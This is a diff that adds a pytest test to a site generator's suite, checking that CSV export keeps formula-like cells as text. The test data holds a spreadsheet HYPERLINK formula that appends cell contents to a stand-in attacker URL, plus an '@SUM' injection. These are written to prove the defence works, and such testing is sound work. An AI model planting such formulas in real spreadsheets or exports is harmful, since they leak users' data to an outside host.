@@ -452,3 +452,19 @@ def test_print_path_attack_is_rejected_or_inert(tmp_path, browser, name, files, 
     text = "".join(page.extract_text() for page in PdfReader(toolkit).pages)
     assert "cycler" in text  # the payload is printed as the text it is, never run
     assert_inert(browser, tmp_path / "out")
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_kept_as_text(tmp_path):
+    """Open data is opened in spreadsheets: a cell that starts like a formula must stay text."""
+    import csv
+    import io
+    from macros.export import data_files
+    from macros.rules import validate
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    root = make_site(tmp_path, checklist(item=formula.replace('"', "'"), note="@SUM(1+1) and"))
+    handbook, problems = validate(root)
+    assert problems == [], problems
+    rows = list(csv.DictReader(io.StringIO(data_files(handbook)["checklists.csv"])))
+    assert rows[0]["text"] == "'" + formula.replace('"', "'")
+    assert rows[0]["note"].startswith("'@SUM")
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values() if cell)
